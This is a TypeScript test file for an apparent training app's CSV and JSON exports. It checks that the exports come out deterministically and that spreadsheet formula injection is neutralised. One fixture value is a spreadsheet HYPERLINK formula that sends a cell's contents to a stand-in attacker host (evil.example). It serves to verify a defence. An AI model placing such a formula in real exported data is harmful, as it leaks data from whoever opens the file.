import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Attempt } from '#lib/domain/attempt.ts';
import type { Entry, EntryKind, EntryOf } from '#lib/domain/entry.ts';
import { rulesRecogniser } from '#lib/recognition/rules.ts';
import { loadScenario, packById, SCENARIOS } from '#lib/scenarios/bank.ts';
import { importArchive, sealArchive } from '#lib/storage/archive.ts';
import { createMemoryStore } from '#lib/storage/memory.ts';
import type { Contents } from '#lib/storage/port.ts';
import { assignmentId } from './assignment.ts';
import { attemptsCsv, reportJson, verdictsCsv } from './export-files.ts';
import { ATTEMPT_COLUMNS, VERDICT_COLUMNS } from './export-lines.ts';
import { readLines } from './read-lines.ts';
import { reportOf } from './report.ts';
import { score } from './score.ts';
import { simulate } from './simulate.ts';
import { realWorld } from './world.ts';

const entry = <K extends EntryKind>(id: string, kind: K, about: string, body: EntryOf<K>['body']): Entry =>
	({ id, kind, about, by: 'trainer', at: `2026-02-01T09:00:${id.slice(-2)}.000Z`, body }) as Entry;

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Wen")';
const assignment = {
	title: '+Week 6',
	note: '',
	tasks: [{ scenario: 'obituary-of-1894', seed: 1 }],
	mode: 'practice',
	pace: 'real',
	pack: '24-7',
	desk: null,
	attempts: 1,
	due: '2026-01-01'
} as const;

let contents: Contents;
/** An attempt with a goodbye that the machine finds met: the trainer says otherwise. */
let marked: string;
beforeAll(async () => {
	const about = (await assignmentId(assignment))!;
	const attempts: Attempt[] = [];
	for (const [at, { id }] of SCENARIOS.entries()) {
		const scenario = (await loadScenario(id))!;
		for (const [index, play] of scenario.plays.entries()) {
			const number = String(attempts.length).padStart(2, '0');
			attempts.push({
				format: 2,
				id: `a${number}`,
				scenario: { id, title: scenario.title, hash: scenario.hash },
				facts: scenario.facts,
				takeover: scenario.takeover,
				seed: 1,
				mode: 'practice',
				pace: 'real',
				trainee: ['wen-1', 'wen-2', null][index % 3]!,
				assignment: id === 'obituary-of-1894' ? about : null,
				origin: null,
				pack: at % 2 === 0 ? '24-7' : 'note-only',
				startedAt: `2026-01-31T09:${number}:00.000Z`,
				events: simulate(scenario, 1, play.librarian, rulesRecogniser)
			});
		}
	}
	marked = attempts.find(
		(attempt) => score(attempt, packById(attempt.pack)!).rulings.steps.goodbye.verdict === 'met'
	)!.id;
	const entries: Entry[] = [
		entry('e01', 'trainee', 'wen-1', { name: formula, library: 'Alder, "County"\nLibrary' }),
		entry('e02', 'trainee', 'wen-2', { name: formula, library: 'Alder, "County"\nLibrary' }),
		entry('e03', 'group', 'g1', { name: '@Autumn', members: ['wen-1', 'wen-2'] }),
		entry('e04', 'override', marked, { rule: 'goodbye', says: 'missed', reason: '-1 for the wrong script' }),
		entry('e05', 'override', marked, { rule: 'note', says: 'met', reason: 'taken back' }),
		entry('e06', 'undone', marked, { entry: 'e05' }),
		entry('e07', 'dispute', marked, { against: { verdict: 'goodbye' }, reason: 'I sent it.' }),
		entry('e08', 'upheld', marked, { dispute: 'e07', upheld: true, reason: 'So it was.' }),
		entry('e09', 'dispute', attempts[1]!.id, { against: { hearing: 2 }, reason: 'I asked.' }),
		entry('e10', 'label', marked, { labels: ['fyi', 'compliment'] }),
		entry('e11', 'overall', marked, { text: '\t=1+1' }),
		entry('e12', 'reviewed', marked, {}),
		entry('e13', 'assignment', about, assignment)
	];
	contents = { attempts, drill: [], entries };
});

const sealed = async (some: Partial<Contents>): Promise<string> => {
	const file = await sealArchive({ attempts: [], drill: [], entries: [], ...some });
	if (!file.ok) throw new Error(file.failure.code);
	return file.value.text;
};
async function linesAfter(files: readonly string[]) {
	const store = createMemoryStore();
	for (const file of files) {
		const outcome = await importArchive(store, file);
		if (!outcome.ok) throw new Error(outcome.failure.problems.join());
	}
	const lines = await readLines(store, realWorld);
	if ('sentence' in lines) throw new Error(lines.sentence);
	return lines;
}
const parsed = (csv: string): Record<string, string>[] =>
	Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true }).data;
const whole = async () => linesAfter([await sealed(contents)]);

test('taken in whole, in halves, reversed, and twice: the same tables to the byte', async () => {
	const { attempts, entries } = contents;
	const half = Math.floor(attempts.length / 2);
	const halves = [
		await sealed({ attempts: attempts.slice(0, half), entries: entries.slice(6) }),
		await sealed({ attempts: attempts.slice(half), entries: entries.slice(0, 6) })
	];
	const reversed = await sealed({ attempts: attempts.toReversed(), entries: entries.toReversed() });
	const ways = [halves, halves.toReversed(), [reversed], [...halves, reversed, ...halves]];
	const first = await whole();
	expect(first.attempts.length).toBe(attempts.length);
	for (const way of ways) {
		const lines = await linesAfter(way);
		expect(attemptsCsv(lines)).toBe(attemptsCsv(first));
		expect(verdictsCsv(lines)).toBe(verdictsCsv(first));
		expect(reportJson(lines)).toBe(reportJson(first));
	}
});

test('namesakes of one library stay apart, in the tables and in the report', async () => {
	const lines = await whole();
	const names = new Map(parsed(attemptsCsv(lines)).map((row) => [row.trainee_id, row.trainee]));
	expect(names.size).toBe(3);
	expect(names.get('wen-1')).not.toBe(names.get('wen-2'));
	const { people, sum } = reportOf(lines, () => true);
	expect(people.map(({ id }) => id).sort()).toEqual([null, 'wen-1', 'wen-2'].sort());
	expect(sum.chats).toBe(people.reduce((chats, one) => chats + one.sum.chats, 0));
	expect(reportOf(lines, (id) => id === 'wen-1').people.map(({ id }) => id)).toEqual(['wen-1']);
});

describe('what a trainer says otherwise', () => {
	test('stands beside what the machine says, with the reason; what was taken back does not count', async () => {
		const rows = parsed(verdictsCsv(await whole())).filter(({ attempt }) => attempt === marked);
		const row = (rule: string) => rows.find((one) => one.rule === rule)!;
		expect(row('goodbye')).toMatchObject({
			machine: 'met',
			trainer: 'missed',
			trainer_reason: "'-1 for the wrong script",
			holds: 'missed',
			objections: '1',
			objections_upheld: '1',
			objections_open: '0'
		});
		expect(row('note')).toMatchObject({ trainer: '', holds: row('note').machine });
	});

	test('changes the points that hold and leaves the machine’s', async () => {
		const row = parsed(attemptsCsv(await whole())).find(({ attempt }) => attempt === marked)!;
		expect(Number(row.points)).toBe(Number(row.machine_points) - 1);
		expect(row).toMatchObject({ possible: row.machine_possible, labels: 'compliment; fyi' });
	});
});

test('of an assignment it is said which attempt counts, and which was late', async () => {
	const rows = parsed(attemptsCsv(await whole())).filter(({ assignment: id }) => id !== '');
	expect(rows.length).toBeGreaterThan(3);
	const own = rows.filter(({ trainee_id }) => trainee_id === 'wen-1');
	expect(own.map(({ number, counted, late }) => [number, counted, late])).toEqual(
		own.map((_, index) => [String(index + 1), index === 0 ? 'yes' : 'no', 'yes'])
	);
});

test('no cell begins like a formula, whatever somebody has typed; the text itself is untouched in JSON', async () => {
	const lines = await whole();
	const cells = [...parsed(attemptsCsv(lines)), ...parsed(verdictsCsv(lines))].flatMap((row) =>
		Object.values(row)
	);
	expect(cells.length).toBeGreaterThan(1000);
	expect(cells.filter((cell) => /^[\s]*[=+\-@]/.test(cell))).toEqual([]);
	const row = parsed(attemptsCsv(lines)).find(({ attempt }) => attempt === marked)!;
	expect(row).toMatchObject({ groups: "'@Autumn", note: "'\t=1+1", assignment_title: '' });
	expect(row.trainee).toMatch(/^'=HYPERLINK/);
	expect(row.library).toBe('Alder, "County"\nLibrary');
	expect(reportJson(lines)).toContain('"note": "\\t=1+1"');
});

test('every column is documented, and nothing else is', () => {
	const docs = readFileSync('docs/trainer-export.md', 'utf8');
	const columnsIn = (heading: string): string[] => {
		const section = docs.split(`## ${heading}\n`)[1]!.split('\n## ')[0]!;
		return [...section.matchAll(/^\| `([a-z_]+)`/gm)].map(([, column]) => column!);
	};
	expect(columnsIn('Chats')).toEqual([...ATTEMPT_COLUMNS]);
	expect(columnsIn('Verdicts')).toEqual([...VERDICT_COLUMNS]);
});
